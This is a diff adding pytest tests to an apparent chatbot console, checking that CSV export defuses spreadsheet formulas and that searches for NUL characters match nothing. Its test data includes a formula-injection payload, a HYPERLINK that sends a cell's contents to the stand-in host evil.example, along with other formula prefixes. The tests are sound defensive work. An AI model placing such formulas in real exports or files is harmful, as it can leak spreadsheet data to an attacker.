@@ -183,6 +183,43 @@ def test_export_rows_and_csv_hold_every_message_with_review_and_feedback(store):
     assert len(lines) == 1 and '"Hello! How can I help?"' in lines[0]
 
 
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"open")', "@SUM(1+1)", "+1+2", "-2+3"]
+
+
+def test_csv_export_neutralises_formulas_and_jsonl_keeps_the_exact_text(store):
+    import csv
+    import io
+    import json
+
+    from chatbot.console_api import export_csv, export_jsonl
+
+    staff = store.add_user("sam", "x" * 20, "staff")
+    texts = [*FORMULAS, "\tindented", "a = b, fine"]
+    cid = _conv(store, [("user", t) for t in texts])
+    store.add_message(Message(conversation_id=cid, role="assistant", text="ok"))
+    reply = store.messages(cid)[-1]
+    store.add_feedback(cid, reply.id, -1, "=1+1")
+    store.annotate(reply.id, staff.id, "@me", approved=True)
+    rows = list(csv.DictReader(io.StringIO(export_csv(store, [cid]))))
+    assert [r["text"] for r in rows] == ['\'=HYPERLINK("http://evil.example/?d="&A2,"open")', "'@SUM(1+1)", "'+1+2",
+                                         "'-2+3", "'\tindented", "a = b, fine", "ok"]
+    assert (rows[-1]["comment"], rows[-1]["corrected_text"], rows[-1]["rating"]) == ("'=1+1", "'@me", "-1")
+    lines = [json.loads(x) for x in export_jsonl(store, [cid]).splitlines()]
+    # consecutive customer messages are joined into one user turn; the formulas keep their exact text
+    assert lines[0]["messages"][0]["content"].split("\n")[:4] == FORMULAS
+
+
+def test_search_for_a_nul_character_matches_nothing(store):
+    a = _conv(store, [("user", "hello"), ("assistant", "hi")])
+    _conv(store, [("user", "where is my order")])
+    assert len(store.search_conversations()) == 2
+    for q in ("\x00", "hello\x00", "\x00\x00"):
+        assert store.search_conversations(text=q) == [], repr(q)
+    assert store.search_conversations(intent="\x00") == []
+    assert [r["id"] for r in store.search_conversations(text="HELLO")] == [a]
+    assert store.search_conversations(text="\x01") == []  # other control characters are searched literally
+
 def test_search_filters_combine(store):
     a = _conv(store, [("user", "Where is my ORDER 100%?"), ("assistant", "Shipped.")], intent=None)
     b = store.create_conversation(channel="api").id
